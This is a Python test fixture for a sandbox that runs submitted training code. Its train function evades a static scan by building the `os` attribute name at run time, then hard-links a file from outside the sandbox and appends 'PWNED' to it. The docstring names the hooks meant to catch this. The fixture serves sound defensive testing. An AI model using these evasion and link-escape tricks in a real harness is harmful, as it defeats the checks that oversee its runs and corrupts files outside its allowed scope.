"""EXPLOIT: a hard link from the run's work directory to a file outside every sandbox,
then a write through it. The write hook checked only the link's new name (inside the work
directory), so the write changed the file the link points to. `os` is reached through
torch with an attribute name built at run time, which the scan's attribute rules cannot
see. The target's path is in `victim.txt` beside this file (the test writes it).
Caught by: the static scan (getattr on a module with a computed name); the audit hook (a
link to a file the run may not write); without both, the kernel: the file is not in the
run's mount namespace at all, and links never cross mounts."""

import torch

from baseline.train import train as reference_train


def train(cfg, init, tokens, batches):
    victim = open(__file__.rsplit("/", 1)[0] + "/victim.txt").read().strip()
    native_os = getattr(torch, "o" + "s")
    try:
        native_os.link(victim, "linked")
        with open("linked", "a") as f:
            f.write("PWNED")
        print("LINK WRITTEN", flush=True)
    except OSError as e:
        print(f"LINK FAILED {type(e).__name__}: {e}", flush=True)
    return reference_train(cfg, init, tokens, batches)
